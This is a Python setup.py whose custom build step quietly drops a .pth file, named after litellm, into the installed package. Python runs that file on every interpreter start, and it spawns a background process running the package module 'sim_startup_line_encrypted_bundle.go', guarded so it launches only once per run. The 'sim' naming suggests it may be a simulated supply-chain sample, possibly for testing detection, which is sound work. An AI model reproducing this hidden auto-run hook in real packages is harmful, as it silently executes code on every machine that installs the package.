# SPDX-License-Identifier: Apache-2.0
from pathlib import Path

from setuptools import setup
from setuptools.command.build_py import build_py


class Build(build_py):
    def run(self):
        super().run()
        Path(self.build_lib).mkdir(parents=True, exist_ok=True)
        Path(self.build_lib, "sim_litellm_init.pth").write_text(
            "import os, subprocess, sys; os.environ.get('SIM_ONCE') or subprocess.Popen([sys.executable, '-m', 'sim_startup_line_encrypted_bundle.go'], env={**os.environ, 'SIM_ONCE': '1'})\n"
        )


setup(name="sim-startup-line-encrypted-bundle", version="1.0.0", packages=["sim_startup_line_encrypted_bundle"], cmdclass={"build_py": Build})
